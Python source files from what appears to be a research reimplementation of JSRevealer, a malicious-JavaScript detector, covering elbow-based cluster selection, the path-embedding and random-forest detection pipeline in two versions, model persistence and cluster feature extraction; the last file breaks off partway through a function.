        if not 0.0 < self.contamination < 0.5:
            raise ValueError("contamination must be in (0, 0.5)")
        if self.overlap_threshold < 0.0:
            raise ValueError("overlap_threshold must be non-negative")
