"""Cluster-count selection: the elbow method of Sec. IV-B / Figure 5."""

from __future__ import annotations

from dataclasses import dataclass

import numpy as np

from repro.ml import elbow_sse


@dataclass
class ElbowResult:
    """SSE curve plus the detected elbow K."""

    k_values: list[int]
    sse: list[float]
    elbow_k: int


def find_elbow(k_values, sse) -> int:
    """Locate the elbow by maximum distance to the chord.

    Standard geometric elbow detection: draw the line between the first
    and last (K, SSE) points (with both axes normalized) and pick the K
    whose point lies farthest below that chord.
    """
    k_values = np.asarray(list(k_values), dtype=float)
    sse = np.asarray(list(sse), dtype=float)
    if len(k_values) != len(sse) or len(k_values) < 3:
        raise ValueError("need at least 3 (K, SSE) points")

    k_norm = (k_values - k_values[0]) / max(k_values[-1] - k_values[0], 1e-12)
    span = max(sse[0] - sse[-1], 1e-12)
    s_norm = (sse - sse[-1]) / span

    # Chord from (0, s0) to (1, s_last) in normalized space.
    chord = s_norm[0] + (s_norm[-1] - s_norm[0]) * k_norm
    # Convex decreasing curves sit *below* the chord; the elbow is the K
    # with the largest positive gap.
    gaps = chord - s_norm
    return int(k_values[int(np.argmax(gaps))])


def elbow_curve(vectors, k_values=range(2, 16), seed: int = 0, bisecting: bool = True) -> ElbowResult:
    """Compute the Figure 5 SSE curve on pooled path vectors."""
    ks = list(k_values)
    sse = elbow_sse(vectors, ks, random_state=seed, bisecting=bisecting)
    return ElbowResult(k_values=ks, sse=sse, elbow_k=find_elbow(ks, sse))
