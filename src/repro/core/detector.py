"""The JSRevealer detector: the paper's end-to-end pipeline.

Stages (Fig. 1): path extraction → path embedding → feature extraction →
classification.  The class exposes the paper's protocol directly:

* :meth:`pretrain` — train the attention embedding model on a held-out
  labeled set (the paper uses 5,000 scripts, 100 epochs).
* :meth:`fit` — extract cluster features from the training corpus and fit
  the final classifier (random forest by default).
* :meth:`predict` / :meth:`predict_proba` — classify unseen scripts.
* :meth:`explain` — the RQ3 interpretability view: top features by forest
  importance with their central paths.

Per-stage wall-clock accounting (for Table VIII) is kept in
:attr:`stage_seconds`.
"""

from __future__ import annotations

import time
from collections import defaultdict
from dataclasses import dataclass

import numpy as np

from repro.embedding import PathEmbedder
from repro.jsparser import JSSyntaxError
from repro.paths import PathContext, PathExtractor

from .config import JSRevealerConfig
from .features import FeatureExtractor


@dataclass
class Explanation:
    """One row of the Table VII-style interpretability report."""

    importance: float
    cluster_label: str  # benign / malicious
    central_path_signature: str
    cluster_size: int


class JSRevealer:
    """Obfuscation-robust malicious JavaScript detector.

    Usage::

        detector = JSRevealer()
        detector.pretrain(pretrain_sources, pretrain_labels)
        detector.fit(train_sources, train_labels)
        predictions = detector.predict(test_sources)

    Labels are ``1`` = malicious, ``0`` = benign throughout.
    """

    def __init__(self, config: JSRevealerConfig | None = None):
        self.config = config or JSRevealerConfig()
        self.config.validate()
        self.extractor = PathExtractor(
            max_length=self.config.max_path_length,
            max_width=self.config.max_path_width,
            use_dataflow=self.config.use_dataflow,
        )
        self.embedder = PathEmbedder(
            embed_dim=self.config.embed_dim,
            epochs=self.config.pretrain_epochs,
            lr=self.config.pretrain_lr,
            seed=self.config.seed,
        )
        self.feature_extractor = FeatureExtractor(
            k_benign=self.config.k_benign,
            k_malicious=self.config.k_malicious,
            contamination=self.config.contamination,
            overlap_threshold=self.config.overlap_threshold,
            use_metaod=self.config.use_metaod,
            seed=self.config.seed,
            assign_radius_factor=self.config.assign_radius_factor,
            assignment=self.config.assignment,
        )
        self.classifier = self.config.classifier_factory()
        self.stage_seconds: dict[str, float] = defaultdict(float)
        self.stage_counts: dict[str, int] = defaultdict(int)
        self._fitted = False

    # ------------------------------------------------------------ plumbing

    def _timed(self, stage: str):
        detector = self

        class _Timer:
            def __enter__(self):
                self.start = time.perf_counter()
                return self

            def __exit__(self, *exc):
                detector.stage_seconds[stage] += time.perf_counter() - self.start
                detector.stage_counts[stage] += 1
                return False

        return _Timer()

    def extract_paths(self, source: str) -> list[PathContext]:
        """Stage 1: parse + enhanced AST + bounded path contexts.

        Unparseable sources yield no paths (real corpora contain fragments;
        the paper's tooling skips them the same way).
        """
        with self._timed("path_extraction"):
            try:
                return self.extractor.extract_from_source(source)
            except (JSSyntaxError, RecursionError):
                return []

    def embed_script(self, contexts: list[PathContext]) -> tuple[np.ndarray, np.ndarray]:
        """Stage 2: FC-layer path vectors + attention weights."""
        with self._timed("embedding"):
            vectors, weights = self.embedder.embed(contexts)
        if len(vectors) > self.config.max_paths_per_script:
            top = np.argsort(weights)[::-1][: self.config.max_paths_per_script]
            vectors, weights = vectors[top], weights[top]
        return vectors, weights

    # ------------------------------------------------------------- pretrain

    def pretrain(self, sources: list[str], labels) -> "JSRevealer":
        """Train the path-embedding model on a held-out labeled set."""
        contexts = [self.extract_paths(source) for source in sources]
        with self._timed("pretraining"):
            self.embedder.fit(contexts, labels)
        return self

    # ------------------------------------------------------------------ fit

    def fit(self, sources: list[str], labels) -> "JSRevealer":
        """Extract cluster features from the training set, fit the forest."""
        if not self.embedder.is_trained:
            raise RuntimeError("call pretrain() before fit()")
        labels = np.asarray(labels, dtype=int)
        if len(sources) != len(labels):
            raise ValueError("sources and labels length mismatch")

        embedded: list[tuple[np.ndarray, np.ndarray]] = []
        signatures: list[list[str]] = []
        for source in sources:
            contexts = self.extract_paths(source)
            embedded.append(self.embed_script(contexts))
            signatures.append([c.signature() for c in contexts])

        benign_vectors, benign_sigs = self._pool(embedded, signatures, labels, 0)
        malicious_vectors, malicious_sigs = self._pool(embedded, signatures, labels, 1)
        with self._timed("feature_extraction"):
            self.feature_extractor.fit(benign_vectors, malicious_vectors, benign_sigs, malicious_sigs)
            X = self.feature_extractor.transform(embedded, fit_scaler=True)

        with self._timed("classifier_training"):
            self.classifier.fit(X, labels)
        self._fitted = True
        return self

    def _pool(self, embedded, signatures, labels, label_value):
        vectors = [v for (v, _), y in zip(embedded, labels) if y == label_value and len(v)]
        sigs: list[str] = []
        for (v, w), s, y in zip(embedded, signatures, labels):
            if y == label_value and len(v):
                # Path cap in embed_script may have dropped low-weight paths;
                # regenerate signatures for the kept rows only when aligned.
                sigs.extend(s[: len(v)] if len(s) >= len(v) else s + [""] * (len(v) - len(s)))
        if not vectors:
            raise ValueError(f"no paths pooled for label {label_value}")
        return np.vstack(vectors), sigs

    # -------------------------------------------------------------- predict

    def features_for(self, sources: list[str]) -> np.ndarray:
        """Normalized cluster-feature matrix for a batch of scripts."""
        embedded = [self.embed_script(self.extract_paths(source)) for source in sources]
        with self._timed("feature_transform"):
            return self.feature_extractor.transform(embedded, fit_scaler=False)

    def predict(self, sources: list[str]) -> np.ndarray:
        if not self._fitted:
            raise RuntimeError("JSRevealer used before fit()")
        X = self.features_for(sources)
        with self._timed("classifying"):
            return self.classifier.predict(X)

    def predict_proba(self, sources: list[str]) -> np.ndarray:
        if not self._fitted:
            raise RuntimeError("JSRevealer used before fit()")
        X = self.features_for(sources)
        with self._timed("classifying"):
            return self.classifier.predict_proba(X)

    # -------------------------------------------------------------- explain

    def explain(self, top_n: int = 5) -> list[Explanation]:
        """Top features by forest Gini importance, with central paths."""
        if not self._fitted:
            raise RuntimeError("JSRevealer used before fit()")
        importances = getattr(self.classifier, "feature_importances_", None)
        if importances is None:
            raise RuntimeError("the configured classifier does not expose feature importances")
        order = np.argsort(importances)[::-1][:top_n]
        out = []
        for index in order:
            feature = self.feature_extractor.features_[int(index)]
            out.append(
                Explanation(
                    importance=float(importances[index]),
                    cluster_label=feature.label,
                    central_path_signature=feature.central_path_signature,
                    cluster_size=feature.size,
                )
            )
        return out

    # ---------------------------------------------------------------- stats

    def mean_stage_ms(self) -> dict[str, float]:
        """Average per-invocation stage cost in milliseconds (Table VIII)."""
        return {
            stage: 1000.0 * total / max(self.stage_counts[stage], 1)
            for stage, total in self.stage_seconds.items()
        }
