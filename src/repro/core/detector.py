"""The JSRevealer detector: the paper's end-to-end pipeline.

Stages (Fig. 1): path extraction → path embedding → feature extraction →
classification.  The class exposes the paper's protocol directly:

* :meth:`pretrain` — train the attention embedding model on a held-out
  labeled set (the paper uses 5,000 scripts, 100 epochs).
* :meth:`fit` — extract cluster features from the training corpus and fit
  the final classifier (random forest by default).
* :meth:`scan` / :meth:`scan_batch` — classify unseen scripts into
  structured :class:`~repro.pipeline.results.ScanResult` records, with
  optional worker-pool fan-out and content-addressed embedding caching.
* :meth:`predict` / :meth:`predict_proba` — array-returning wrappers over
  :meth:`scan_batch`, kept for the experiment/benchmark code paths.
* :meth:`explain` — the RQ3 interpretability view: top features by forest
  importance with their central paths.

Per-stage wall-clock accounting (for Table VIII) is kept in
:attr:`stage_seconds`.
"""

from __future__ import annotations

import hashlib
import time
from collections import defaultdict
from dataclasses import dataclass
from typing import TYPE_CHECKING

import numpy as np

from repro.embedding import PathEmbedder
from repro.jsparser import JSSyntaxError
from repro.paths import ExtractionError, PathContext, PathExtractor

from .config import JSRevealerConfig
from .features import FeatureExtractor

if TYPE_CHECKING:  # pragma: no cover
    from repro.faults import QuarantineJournal, ScanLimits
    from repro.pipeline import FeatureCache, ScanReport, ScanResult


@dataclass
class Explanation:
    """One row of the Table VII-style interpretability report."""

    importance: float
    cluster_label: str  # benign / malicious
    central_path_signature: str
    cluster_size: int


class JSRevealer:
    """Obfuscation-robust malicious JavaScript detector.

    Usage::

        detector = JSRevealer()
        detector.pretrain(pretrain_sources, pretrain_labels)
        detector.fit(train_sources, train_labels)
        predictions = detector.predict(test_sources)

    Labels are ``1`` = malicious, ``0`` = benign throughout.
    """

    def __init__(self, config: JSRevealerConfig | None = None):
        self.config = config or JSRevealerConfig()
        self.config.validate()
        self.extractor = PathExtractor(
            max_length=self.config.max_path_length,
            max_width=self.config.max_path_width,
            use_dataflow=self.config.use_dataflow,
        )
        self.embedder = PathEmbedder(
            embed_dim=self.config.embed_dim,
            epochs=self.config.pretrain_epochs,
            lr=self.config.pretrain_lr,
            seed=self.config.seed,
        )
        self.feature_extractor = FeatureExtractor(
            k_benign=self.config.k_benign,
            k_malicious=self.config.k_malicious,
            contamination=self.config.contamination,
            overlap_threshold=self.config.overlap_threshold,
            use_metaod=self.config.use_metaod,
            seed=self.config.seed,
            assign_radius_factor=self.config.assign_radius_factor,
            assignment=self.config.assignment,
        )
        self.classifier = self.config.classifier_factory()
        self.stage_seconds: dict[str, float] = defaultdict(float)
        self.stage_counts: dict[str, int] = defaultdict(int)
        self._fitted = False

    # ------------------------------------------------------------ plumbing

    def _timed(self, stage: str):
        detector = self

        class _Timer:
            def __enter__(self):
                self.start = time.perf_counter()
                return self

            def __exit__(self, *exc):
                detector.stage_seconds[stage] += time.perf_counter() - self.start
                detector.stage_counts[stage] += 1
                return False

        return _Timer()

    def extract_paths(self, source: str) -> list[PathContext]:
        """Stage 1: parse + enhanced AST + bounded path contexts.

        Unparseable sources yield no paths (real corpora contain fragments;
        the paper's tooling skips them the same way).
        """
        with self._timed("path_extraction"):
            try:
                return self.extractor.extract_from_source(source)
            except (JSSyntaxError, ExtractionError, RecursionError):
                return []

    def embed_script(
        self, contexts: list[PathContext], return_indices: bool = False
    ) -> tuple[np.ndarray, np.ndarray] | tuple[np.ndarray, np.ndarray, np.ndarray]:
        """Stage 2: FC-layer path vectors + attention weights.

        With ``return_indices=True`` the indices (into ``contexts``) of the
        rows that survived the ``max_paths_per_script`` cap are returned as
        a third element, so callers can keep per-path metadata (signatures)
        aligned with the vectors.
        """
        with self._timed("embedding"):
            vectors, weights = self.embedder.embed(contexts)
        kept = np.arange(len(vectors))
        if len(vectors) > self.config.max_paths_per_script:
            kept = np.argsort(weights)[::-1][: self.config.max_paths_per_script]
            vectors, weights = vectors[kept], weights[kept]
        if return_indices:
            return vectors, weights, kept
        return vectors, weights

    # ------------------------------------------------------------- pretrain

    def pretrain(self, sources: list[str], labels) -> "JSRevealer":
        """Train the path-embedding model on a held-out labeled set."""
        contexts = [self.extract_paths(source) for source in sources]
        with self._timed("pretraining"):
            self.embedder.fit(contexts, labels)
        return self

    # ------------------------------------------------------------------ fit

    def fit(self, sources: list[str], labels) -> "JSRevealer":
        """Extract cluster features from the training set, fit the forest."""
        if not self.embedder.is_trained:
            raise RuntimeError("call pretrain() before fit()")
        labels = np.asarray(labels, dtype=int)
        if len(sources) != len(labels):
            raise ValueError("sources and labels length mismatch")

        embedded: list[tuple[np.ndarray, np.ndarray]] = []
        signatures: list[list[str]] = []
        for source in sources:
            contexts = self.extract_paths(source)
            vectors, weights, kept = self.embed_script(contexts, return_indices=True)
            embedded.append((vectors, weights))
            # Signatures follow the kept-index array so that when the path
            # cap drops low-weight rows, each signature still names the path
            # its vector came from.
            signatures.append([contexts[int(j)].signature() for j in kept])

        benign_vectors, benign_sigs = self._pool(embedded, signatures, labels, 0)
        malicious_vectors, malicious_sigs = self._pool(embedded, signatures, labels, 1)
        with self._timed("feature_extraction"):
            self.feature_extractor.fit(benign_vectors, malicious_vectors, benign_sigs, malicious_sigs)
            X = self.feature_extractor.transform(embedded, fit_scaler=True)

        with self._timed("classifier_training"):
            self.classifier.fit(X, labels)
        self._fitted = True
        return self

    def _pool(self, embedded, signatures, labels, label_value):
        vectors: list[np.ndarray] = []
        sigs: list[str] = []
        for (v, _), s, y in zip(embedded, signatures, labels):
            if y == label_value and len(v):
                if len(s) != len(v):
                    raise ValueError("signatures misaligned with embedded vectors")
                vectors.append(v)
                sigs.extend(s)
        if not vectors:
            raise ValueError(f"no paths pooled for label {label_value}")
        return np.vstack(vectors), sigs

    # -------------------------------------------------------------- predict

    def features_for(self, sources: list[str]) -> np.ndarray:
        """Normalized cluster-feature matrix for a batch of scripts."""
        embedded = [self.embed_script(self.extract_paths(source)) for source in sources]
        with self._timed("feature_transform"):
            return self.feature_extractor.transform(embedded, fit_scaler=False)

    def scan(self, source: str, threshold: float = 0.5) -> "ScanResult":
        """Scan one script, returning a structured :class:`ScanResult`."""
        return self.scan_batch([source], threshold=threshold).results[0]

    def scan_batch(
        self,
        sources: list[str],
        names: list[str] | None = None,
        n_workers: int = 1,
        cache: "FeatureCache | None" = None,
        cache_dir: str | None = None,
        threshold: float = 0.5,
        triage: bool = False,
        limits: "ScanLimits | None" = None,
        quarantine: "QuarantineJournal | None" = None,
        trace: bool = False,
        deobfuscate: bool = False,
    ) -> "ScanReport":
        """Scan a batch of scripts, optionally in parallel and cached.

        ``n_workers > 1`` fans extraction + embedding out over a process
        pool (verdicts are byte-identical to the sequential path; pool
        failures degrade to it).  ``cache_dir`` enables the persistent
        content-addressed embedding cache, keyed to this model's
        :meth:`fingerprint` so retrained models never see stale entries.
        ``triage=True`` runs the static-analysis rule catalog first:
        findings are attached per file, and decisive rule hits settle the
        verdict without embedding (see :class:`~repro.analysis.Analyzer`).
        ``limits`` switches on the fault-isolation layer: every script runs
        under a wall-clock deadline and kernel rlimits in a supervised
        worker, hostile scripts are quarantined (``quarantine``, defaulting
        to an in-memory journal) and answered with a structured degraded
        verdict (see :mod:`repro.faults`).
        ``trace=True`` records a span tree plus verdict provenance for the
        batch and every file (``report.trace`` / ``result.trace``);
        verdicts are byte-identical with tracing on or off.
        ``deobfuscate=True`` runs the staged AST normalizer
        (:class:`~repro.deobfuscate.Deobfuscator`) on every source before
        triage and embedding; clean scripts keep byte-identical verdicts,
        rewritten ones carry a ``normalization`` report.
        """
        from repro.pipeline import BatchScanner, FeatureCache

        if cache is None and cache_dir is not None:
            cache = FeatureCache(self.fingerprint(), cache_dir=cache_dir)
        analyzer = None
        if triage:
            from repro.analysis import Analyzer

            analyzer = Analyzer()
        tracer = None
        if trace:
            from repro.obs import Tracer

            tracer = Tracer(sample_rate=1.0)
        deobfuscator = None
        if deobfuscate:
            from repro.deobfuscate import Deobfuscator

            deobfuscator = Deobfuscator(limits=limits)
        scanner = BatchScanner(
            self,
            n_workers=n_workers,
            cache=cache,
            triage=analyzer,
            limits=limits,
            quarantine=quarantine,
            tracer=tracer,
            deobfuscate=deobfuscator,
        )
        return scanner.scan(sources, names=names, threshold=threshold, trace=trace or None)

    def predict(self, sources: list[str]) -> np.ndarray:
        """Label array (1 = malicious); thin wrapper over :meth:`scan_batch`."""
        return self.scan_batch(sources).label_array

    def predict_proba(self, sources: list[str]) -> np.ndarray:
        """Class-probability matrix; thin wrapper over :meth:`scan_batch`."""
        matrix = self.scan_batch(sources).probability_matrix
        if matrix is None:
            raise RuntimeError("the configured classifier does not expose predict_proba")
        return matrix

    # -------------------------------------------------------------- explain

    def explain(self, top_n: int = 5) -> list[Explanation]:
        """Top features by forest Gini importance, with central paths."""
        if not self._fitted:
            raise RuntimeError("JSRevealer used before fit()")
        importances = getattr(self.classifier, "feature_importances_", None)
        if importances is None:
            raise RuntimeError("the configured classifier does not expose feature importances")
        order = np.argsort(importances)[::-1][:top_n]
        out = []
        for index in order:
            feature = self.feature_extractor.features_[int(index)]
            out.append(
                Explanation(
                    importance=float(importances[index]),
                    cluster_label=feature.label,
                    central_path_signature=feature.central_path_signature,
                    cluster_size=feature.size,
                )
            )
        return out

    def feature_provenance(self, row: np.ndarray, top_n: int = 5) -> list[dict]:
        """The cluster features that drove one classified row's verdict.

        Ranks this row's features by ``|value| × forest importance`` — the
        per-script analogue of :meth:`explain`'s global ranking — and
        names each feature's cluster (label, central path, size) so a
        traced verdict can say *which* learned path clusters the script
        landed in.  Works with any classifier; without
        ``feature_importances_`` the ranking falls back to ``|value|``.
        """
        row = np.asarray(row, dtype=float).ravel()
        importances = getattr(self.classifier, "feature_importances_", None)
        if importances is None:
            importances = np.ones_like(row)
        importances = np.asarray(importances, dtype=float).ravel()
        limit = min(len(row), len(importances), len(self.feature_extractor.features_))
        weight = np.abs(row[:limit]) * importances[:limit]
        order = np.argsort(weight)[::-1][:top_n]
        out = []
        for index in order:
            feature = self.feature_extractor.features_[int(index)]
            out.append(
                {
                    "feature_index": int(index),
                    "value": round(float(row[int(index)]), 6),
                    "importance": round(float(importances[int(index)]), 6),
                    "weight": round(float(weight[int(index)]), 6),
                    "cluster_label": str(feature.label),
                    "central_path": feature.central_path_signature,
                    "cluster_size": int(feature.size),
                }
            )
        return out

    # ----------------------------------------------------------- fingerprint

    def fingerprint(self) -> str:
        """SHA-256 over the model's tensors (same content persistence saves).

        Namespaces the content-addressed embedding cache and is stored in
        ``model.json`` (format version 2), so caches written by one trained
        model are invisible to every other.
        """
        digest = hashlib.sha256()
        parameters = self.embedder.model.parameters()
        for name in sorted(parameters):
            digest.update(name.encode())
            digest.update(np.ascontiguousarray(parameters[name], dtype=np.float64).tobytes())
        for feature in self.feature_extractor.features_:
            digest.update(np.ascontiguousarray(feature.center, dtype=np.float64).tobytes())
            digest.update(np.float64(feature.radius).tobytes())
            digest.update(np.int64(feature.size).tobytes())
        return digest.hexdigest()

    # ---------------------------------------------------------------- stats

    def mean_stage_ms(self) -> dict[str, float]:
        """Average per-invocation stage cost in milliseconds (Table VIII)."""
        return {
            stage: 1000.0 * total / max(self.stage_counts[stage], 1)
            for stage, total in self.stage_seconds.items()
        }
