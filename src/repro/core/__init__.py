"""JSRevealer core: the paper's primary contribution.

Public surface::

    from repro.core import JSRevealer, JSRevealerConfig

    detector = JSRevealer(JSRevealerConfig(k_benign=11, k_malicious=10))
    detector.pretrain(pretrain_sources, pretrain_labels)
    detector.fit(train_sources, train_labels)
    labels = detector.predict(test_sources)
    report = detector.explain(top_n=5)
"""

from .config import JSRevealerConfig, default_classifier
from .families import FamilyClassifier, FamilyReport
from .detector import Explanation, JSRevealer
from .features import ClusterFeature, FeatureExtractor
from .kselect import ElbowResult, elbow_curve, find_elbow
from .persistence import load_detector, save_detector

__all__ = [
    "JSRevealerConfig",
    "FamilyClassifier",
    "FamilyReport",
    "load_detector",
    "save_detector",
    "default_classifier",
    "Explanation",
    "JSRevealer",
    "ClusterFeature",
    "FeatureExtractor",
    "ElbowResult",
    "elbow_curve",
    "find_elbow",
]
