"""Save/load trained detectors — the deployment feature RQ4 implies.

A trained :class:`~repro.core.detector.JSRevealer` consists of numpy
parameter tensors (the embedding model), the cluster features (centers,
radii, labels, central-path signatures), and the random-forest structure.
Everything serializes into a single ``.npz`` plus a JSON sidecar inside a
directory, with a format-version gate.
"""

from __future__ import annotations

import json
from pathlib import Path

import numpy as np

from repro.ml import RandomForestClassifier

from .config import JSRevealerConfig
from .detector import JSRevealer
from .features import ClusterFeature

#: Version 2 added ``model_fingerprint`` (SHA-256 of the model tensors,
#: namespacing the content-addressed embedding cache).  Version-1 models
#: still load; their fingerprint is derived from the loaded tensors.
FORMAT_VERSION = 2
_SUPPORTED_VERSIONS = (1, 2)


def save_detector(detector: JSRevealer, directory: str | Path) -> Path:
    """Persist a fitted detector to ``directory`` (created if missing)."""
    if not detector._fitted:
        raise ValueError("cannot save an unfitted detector")
    if not isinstance(detector.classifier, RandomForestClassifier):
        raise ValueError("persistence supports the default random-forest classifier")
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)

    arrays: dict[str, np.ndarray] = {}
    for name, tensor in detector.embedder.model.parameters().items():
        arrays[f"embed_{name}"] = tensor
    features = detector.feature_extractor.features_
    arrays["centers"] = np.vstack([f.center for f in features])
    arrays["radii"] = np.array([f.radius for f in features])
    arrays["sizes"] = np.array([f.size for f in features])
    np.savez_compressed(directory / "model.npz", **arrays)

    config = detector.config
    meta = {
        "format_version": FORMAT_VERSION,
        "model_fingerprint": detector.fingerprint(),
        "config": {
            "k_benign": config.k_benign,
            "k_malicious": config.k_malicious,
            "embed_dim": config.embed_dim,
            "max_path_length": config.max_path_length,
            "max_path_width": config.max_path_width,
            "use_dataflow": config.use_dataflow,
            "contamination": config.contamination,
            "overlap_threshold": config.overlap_threshold,
            "max_paths_per_script": config.max_paths_per_script,
            "assign_radius_factor": config.assign_radius_factor,
            "assignment": config.assignment,
            "seed": config.seed,
        },
        "feature_labels": [f.label for f in features],
        "feature_signatures": [f.central_path_signature for f in features],
        "forest": _forest_to_dict(detector.classifier),
    }
    (directory / "model.json").write_text(json.dumps(meta))
    return directory


def load_detector(directory: str | Path) -> JSRevealer:
    """Reconstruct a fitted detector from :func:`save_detector` output."""
    directory = Path(directory)
    meta = json.loads((directory / "model.json").read_text())
    if meta.get("format_version") not in _SUPPORTED_VERSIONS:
        raise ValueError(f"unsupported format version {meta.get('format_version')!r}")
    arrays = np.load(directory / "model.npz")

    config = JSRevealerConfig(**meta["config"])
    detector = JSRevealer(config)

    detector.embedder.model.load_parameters(
        {name[len("embed_") :]: arrays[name] for name in arrays.files if name.startswith("embed_")}
    )
    detector.embedder._trained = True

    features = []
    for i, (label, signature) in enumerate(zip(meta["feature_labels"], meta["feature_signatures"])):
        features.append(
            ClusterFeature(
                center=arrays["centers"][i],
                label=label,
                radius=float(arrays["radii"][i]),
                size=int(arrays["sizes"][i]),
                central_path_signature=signature,
            )
        )
    detector.feature_extractor.features_ = features

    detector.classifier = _forest_from_dict(meta["forest"])
    detector._fitted = True

    # Version 1 predates stored fingerprints: derive one from the loaded
    # tensors.  For version 2 the stored value must match the tensors, so a
    # hand-edited npz can never silently reuse another model's cache.
    derived = detector.fingerprint()
    stored = meta.get("model_fingerprint")
    if stored is not None and stored != derived:
        raise ValueError("model_fingerprint does not match model tensors; refusing to load")
    return detector


# ------------------------------------------------------- forest (de)serialize


def _forest_to_dict(forest: RandomForestClassifier) -> dict:
    return {
        "classes": [int(c) for c in forest.classes_],
        "feature_importances": [float(v) for v in (forest.feature_importances_ if forest.feature_importances_ is not None else [])],
        "trees": [_tree_to_dict(tree._root, tree.classes_) for tree in forest.estimators_],
    }


def _tree_to_dict(node, classes) -> dict:
    if node.is_leaf:
        return {"leaf": [float(p) for p in node.proba], "classes": [int(c) for c in classes]}
    return {
        "feature": int(node.feature),
        "threshold": float(node.threshold),
        "left": _tree_to_dict(node.left, classes),
        "right": _tree_to_dict(node.right, classes),
        "classes": [int(c) for c in classes],
    }


def _forest_from_dict(data: dict) -> RandomForestClassifier:
    from repro.ml.tree import DecisionTreeClassifier, _Node

    forest = RandomForestClassifier(n_estimators=max(len(data["trees"]), 1))
    forest.classes_ = np.array(data["classes"])
    forest.feature_importances_ = np.array(data["feature_importances"])

    def rebuild(node_data) -> _Node:
        if "leaf" in node_data:
            return _Node(proba=np.array(node_data["leaf"]))
        node = _Node(feature=node_data["feature"], threshold=node_data["threshold"])
        node.left = rebuild(node_data["left"])
        node.right = rebuild(node_data["right"])
        return node

    estimators = []
    for tree_data in data["trees"]:
        tree = DecisionTreeClassifier()
        tree.classes_ = np.array(tree_data["classes"])
        tree._root = rebuild(tree_data)
        estimators.append(tree)
    forest.estimators_ = estimators
    return forest
