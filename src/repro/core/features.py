"""Cluster-based feature extraction (Sec. III-D of the paper).

Pipeline per the paper:

1. Pool all path vectors from benign training scripts and from malicious
   training scripts (with their attention weights).
2. Remove outlier vectors with FastABOD (model chosen by MetaOD).
3. Cluster the benign pool (K=11) and the malicious pool (K=10) with
   Bisecting K-Means, separately.
4. Drop benign/malicious cluster pairs with high overlap; the surviving
   clusters are the features (the paper retained all 21).
5. A script's feature vector: for each of its paths, find the cluster the
   path belongs to and add the path's attention weight to that feature;
   min–max normalize the resulting vectors.

Cluster centers keep a pointer to the *nearest real path* in the training
corpus, which powers the RQ3 interpretability analysis (Table VII).
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from repro.ml import BisectingKMeans, MinMaxScaler
from repro.outliers import FastABOD, select_detector


@dataclass
class ClusterFeature:
    """One feature: a cluster of semantically similar paths."""

    center: np.ndarray
    label: str  # "benign" | "malicious"
    radius: float  # RMS distance of members to the center
    size: int
    #: Signature of the member path nearest to the center (interpretability).
    central_path_signature: str = ""


@dataclass
class FeatureExtractor:
    """Fit on pooled path vectors; transform scripts into feature vectors.

    Args:
        k_benign / k_malicious: Cluster counts per class.
        contamination: FastABOD outlier fraction.
        overlap_threshold: Overlap-removal sensitivity (see
            :meth:`_remove_overlapping`).
        use_metaod: Select the outlier detector with the MetaOD-style
            consensus procedure instead of using FastABOD directly.
        seed: Clustering seed.
    """

    k_benign: int = 11
    k_malicious: int = 10
    contamination: float = 0.1
    overlap_threshold: float = 0.25
    use_metaod: bool = False
    seed: int = 0
    #: Per-class cap on pooled path vectors used for outlier removal and
    #: clustering; feature extraction cost stays bounded on large corpora.
    max_pool_size: int = 6000
    #: A path belongs to its nearest cluster only when it lies within
    #: ``assign_radius_factor × cluster radius`` of the center; paths alien
    #: to every learned behavior (e.g. obfuscator-injected dispatch
    #: machinery) contribute no feature weight at all.
    assign_radius_factor: float = 1.0
    #: "hard": the paper's membership rule (nearest cluster within radius).
    #: "soft": each path spreads its attention weight over clusters by a
    #: radius-scaled Gaussian kernel — alien paths contribute near-uniform
    #: (hence non-discriminative) mass, which stabilizes feature vectors
    #: under structure-heavy obfuscation at small corpus scale.
    assignment: str = "soft"

    features_: list[ClusterFeature] = field(default_factory=list, init=False)
    scaler_: MinMaxScaler | None = field(default=None, init=False)
    selected_detector_name_: str = field(default="fast_abod", init=False)
    #: Count of clusters dropped by overlap removal (paper: 0).
    removed_overlaps_: int = field(default=0, init=False)

    # ------------------------------------------------------------------ fit

    def fit(
        self,
        benign_vectors: np.ndarray,
        malicious_vectors: np.ndarray,
        benign_signatures: list[str] | None = None,
        malicious_signatures: list[str] | None = None,
    ) -> "FeatureExtractor":
        """Learn the cluster features from pooled per-class path vectors."""
        benign_vectors, benign_signatures = self._subsample(benign_vectors, benign_signatures)
        malicious_vectors, malicious_signatures = self._subsample(malicious_vectors, malicious_signatures)
        benign_kept, benign_sigs = self._remove_outliers(benign_vectors, benign_signatures)
        malicious_kept, malicious_sigs = self._remove_outliers(malicious_vectors, malicious_signatures)

        benign_clusters = self._cluster(benign_kept, benign_sigs, self.k_benign, "benign")
        malicious_clusters = self._cluster(malicious_kept, malicious_sigs, self.k_malicious, "malicious")
        self.features_ = self._remove_overlapping(benign_clusters, malicious_clusters)
        if not self.features_:
            raise RuntimeError("all clusters were removed as overlapping; lower overlap_threshold")
        self.scaler_ = None  # (re)fit lazily on the first training transform
        return self

    def _subsample(self, vectors: np.ndarray, signatures: list[str] | None):
        vectors = np.asarray(vectors, dtype=float)
        if len(vectors) <= self.max_pool_size:
            return vectors, signatures
        rng = np.random.default_rng(self.seed)
        keep = rng.choice(len(vectors), size=self.max_pool_size, replace=False)
        kept_signatures = [signatures[i] for i in keep] if signatures is not None else None
        return vectors[keep], kept_signatures

    def _remove_outliers(self, vectors: np.ndarray, signatures: list[str] | None):
        vectors = np.asarray(vectors, dtype=float)
        if len(vectors) < 10:  # too small for meaningful outlier removal
            return vectors, signatures
        if self.use_metaod:
            result = select_detector(vectors, contamination=self.contamination)
            detector = result.best_detector
            self.selected_detector_name_ = result.best_name
            # The selector already fit on a subsample; refit on everything.
            detector.fit(vectors)
        else:
            detector = FastABOD(n_neighbors=10, contamination=self.contamination).fit(vectors)
            self.selected_detector_name_ = "fast_abod"
        keep = detector.labels_ == 0
        kept_signatures = (
            [s for s, flag in zip(signatures, keep) if flag] if signatures is not None else None
        )
        return vectors[keep], kept_signatures

    def _cluster(
        self, vectors: np.ndarray, signatures: list[str] | None, k: int, label: str
    ) -> list[ClusterFeature]:
        k = min(k, max(len(vectors), 1))
        if len(vectors) == 0:
            return []
        if len(vectors) < k:
            k = len(vectors)
        model = BisectingKMeans(n_clusters=k, random_state=self.seed).fit(vectors)
        clusters: list[ClusterFeature] = []
        for index in range(len(model.cluster_centers_)):
            members = vectors[model.labels_ == index]
            center = model.cluster_centers_[index]
            if len(members) == 0:
                continue
            distances = np.linalg.norm(members - center, axis=1)
